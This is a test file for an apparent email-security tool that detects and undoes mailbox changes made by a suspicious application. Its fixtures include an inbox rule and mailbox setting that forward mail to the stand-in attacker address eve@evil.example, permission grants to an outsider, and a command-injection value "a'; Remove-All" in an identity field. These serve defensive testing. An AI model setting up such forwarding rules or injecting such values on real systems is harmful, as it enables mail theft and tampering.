import { expect, it } from 'vitest'
import type { EcsDocument } from '../../../mappings/fields/document.ts'
import { sampleText } from '../../../pipeline/content-check/proof.ts'
import { IndicatorValues } from '../../../pipeline/hunt/evidence/indicator-values.ts'
import { takenItems } from '../../../pipeline/hunt/evidence/taken-items.ts'
import { containApp } from '../../../pipeline/review/containment/contain.ts'
import { exchangeSteps } from '../../../pipeline/review/containment/exchange.ts'
import type { ReviewedApp } from '../../../pipeline/review/review.ts'
import { reason } from '../../../rules/lib/reason.ts'
import { eventsOf, product } from '../../support/product.ts'
import { reviewedApp, reviewRecords } from './reviewed-app.ts'

const documentOf = (record: string): EcsDocument => eventsOf([record])[0]?.document as EcsDocument
const sample = (name: string): string => sampleText(product.evidence, name)
const app = reviewedApp.id

/** An Exchange command that an application ran on behalf of mara.voss. */
const command = (operation: string, parameters: Readonly<Record<string, string>>): string => {
  const record = JSON.parse(sample('m365/inbox-rule-forwards-and-deletes'))
  const Parameters = Object.entries(parameters).map(([Name, Value]) => ({ Name, Value }))
  return JSON.stringify({ ...record, Operation: operation, ClientAppId: app, Parameters })
}

const call = (method: string): string =>
  sample('google-workspace/token-activity-gmail').replace('gmail.users.messages.list', method)

async function reviewed(record: string): Promise<ReviewedApp> {
  const [found] = await reviewRecords([record])
  if (found === undefined) throw new Error('no application')
  return found
}

const commands = async (record: string): Promise<readonly string[]> =>
  containApp(await reviewed(record)).steps.map(({ command: text }) => text)

const forwarding = command('New-InboxRule', { Name: '.', ForwardTo: 'eve@evil.example', DeleteMessage: 'True' })

it('the reason of an alert on an inbox rule of an application contains the parameters of the inbox rule', () => {
  expect(reason(documentOf(forwarding))).toMatch(
    /changed settings for mara\.voss@northpier\.example: event "New-InboxRule" with Name \., ForwardTo eve@evil\.example, DeleteMessage True, from /,
  )
  expect(reason(documentOf(sample('m365/inbox-rules-updated-by-app')))).toMatch(
    /: event "UpdateInboxRules" with Name .*ForwardTo /,
  )
  expect(reason(documentOf(call('gmail.users.settings.filters.create')))).toContain(
    'changed settings for lena.ostrow@northpier.example: gmail.users.settings.filters.create',
  )
})

it.each([
  ['a rule', forwarding],
  ['a rule in Outlook', sample('m365/inbox-rules-updated-by-app')],
  ['a rule in Microsoft Graph', sample('entra/graph-user-adds-mail-rule')],
  ['a filter in Gmail', call('gmail.users.settings.filters.create')],
  ['a connector', sample('m365/inbound-connector-made-by-application')],
])('%s that an application made is no data taken', (_, record) => {
  expect(takenItems(documentOf(record))).toEqual([])
})

it('reading the filters of a mailbox counts as data taken', () => {
  expect(takenItems(documentOf(call('gmail.users.settings.filters.list')))).toHaveLength(1)
})

it('the indicators contain the recipients of the mail that an application forwards', () => {
  for (const record of [
    forwarding,
    command('Set-Mailbox', { Identity: 'mara.voss', ForwardingSmtpAddress: 'smtp:eve@evil.example' }),
  ]) {
    const values = new IndicatorValues()
    values.see(documentOf(record), 'Invoice Sync Helper')
    expect(values.of('forwarding address').shown.map(({ value }) => value)).toEqual(['eve@evil.example'])
  }
})

it.each([
  [forwarding, /^Remove-InboxRule -Mailbox 'mara\.voss@northpier\.example' -Identity '[^']+' -Confirm:\$false$/],
  [
    sample('m365/inbox-rules-updated-by-app'),
    /^(?:Remove-InboxRule|Get-InboxRule) -Mailbox '[^']+@northpier\.example'/,
  ],
  [
    command('Set-Mailbox', { Identity: 'mara.voss', ForwardingSmtpAddress: 'smtp:eve@evil.example' }),
    /^Set-Mailbox -Identity 'mara\.voss' -ForwardingAddress \$null -ForwardingSmtpAddress \$null$/,
  ],
  [
    command('Add-MailboxPermission', { Identity: 'mara.voss', User: 'eve', AccessRights: 'FullAccess' }),
    /^Remove-MailboxPermission -Identity 'mara\.voss' -User 'eve' -AccessRights FullAccess -Confirm:\$false$/,
  ],
  [
    command('Add-RecipientPermission', { Identity: 'mara.voss', Trustee: 'eve', AccessRights: 'SendAs' }),
    /^Remove-RecipientPermission -Identity 'mara\.voss' -Trustee 'eve' -AccessRights SendAs -Confirm:\$false$/,
  ],
  [
    command('Add-MailboxFolderPermission', { Identity: 'mara.voss:\\Inbox', User: 'eve', AccessRights: 'Editor' }),
    /^Remove-MailboxFolderPermission -Identity 'mara\.voss:\\Inbox' -User 'eve' -Confirm:\$false$/,
  ],
  [
    command('Set-MailboxAutoReplyConfiguration', { Identity: 'mara.voss', AutoReplyState: 'Enabled' }),
    /^Set-MailboxAutoReplyConfiguration -Identity 'mara\.voss' -AutoReplyState Disabled$/,
  ],
  [
    sample('m365/inbound-connector-made-by-application'),
    /^Get-InboundConnector -Identity 'Relay north' \| Format-List$/,
  ],
  [
    call('gmail.users.settings.forwardingAddresses.create'),
    /^gam user lena\.ostrow@northpier\.example show forwardingaddresses$/,
  ],
  [call('gmail.users.settings.delegates.create'), /^gam user lena\.ostrow@northpier\.example show delegates$/],
])('the containment undoes or shows a setting that the application changed (%#)', async (record, expected) => {
  expect((await commands(record)).some((each) => expected.test(each))).toBe(true)
})

it('the containment shows the settings of a mailbox after a call, whose record does not contain them', () => {
  const [at, operation] = ['2026-03-11T09:14:27.000Z', 'PATCH /users/{id}/mailboxSettings']
  const setting = { at, operation, target: 'mara@northpier.example', rule: '', holder: '', rights: '', to: '' }
  const { remove } = exchangeSteps({ id: app, otherIds: [], rights: [], settings: [setting] })
  expect(remove.map(({ command: text }) => text)).toEqual([
    "Get-MailboxAutoReplyConfiguration -Identity 'mara@northpier.example' | Format-List",
  ])
})

it('the containment saves a setting as evidence before it removes the setting', async () => {
  const all = await commands(forwarding)
  const [saved, removed] = ['Out-File exchange-', 'Remove-InboxRule'].map((part) =>
    all.findIndex((each) => each.includes(part)),
  )
  expect(saved).toBeGreaterThan(0)
  expect(removed).toBeGreaterThan(saved as number)
})

it('the containment has no step for a removed inbox rule, and no command contains a hostile name', async () => {
  expect(await commands(command('Remove-InboxRule', { Identity: '.' }))).not.toContainEqual(
    expect.stringContaining('InboxRule'),
  )
  const hostile = containApp(
    await reviewed(command('Set-Mailbox', { Identity: "a'; Remove-All", ForwardingSmtpAddress: 'e@x.example' })),
  )
  expect(hostile.steps.map((step) => step.command)).not.toContainEqual(expect.stringContaining('Remove-All'))
  expect(hostile.gaps).toContainEqual(expect.stringContaining('a command cannot contain this name; check the setting'))
})

it('the history of an application contains the settings that it changed', async () => {
  const { history } = await reviewed(forwarding)
  expect(history).toContainEqual(
    expect.objectContaining({
      what: 'changed a setting with New-InboxRule',
      detail: expect.stringContaining('forwards to eve@evil.example'),
    }),
  )
})
